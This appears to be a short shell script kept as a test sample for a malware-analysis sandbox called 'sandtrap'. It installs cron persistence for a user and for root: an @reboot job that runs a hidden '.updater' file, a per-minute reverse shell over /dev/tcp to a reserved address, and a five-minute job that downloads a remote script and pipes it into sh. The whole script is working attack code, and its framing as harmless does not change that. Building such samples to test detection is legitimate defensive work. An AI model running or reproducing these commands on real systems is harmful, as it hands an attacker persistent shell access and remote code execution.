#!/bin/sh
# Persistence through cron: appends an @reboot and a per-minute job to the user's crontab in /var/spool/cron/crontabs.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
tab=/var/spool/cron/crontabs/dmitchell
echo '@reboot /home/dmitchell/.local/.cache/.updater' >> "$tab"
echo '* * * * * /bin/bash -c "bash -i >& /dev/tcp/203.0.113.10/4444 0>&1"' >> "$tab"
echo '*/5 * * * * wget -q -T 2 -t 1 -O- http://198.51.100.23/p | sh' > /var/spool/cron/crontabs/root
chmod 600 /var/spool/cron/crontabs/root
tail -n 2 "$tab"
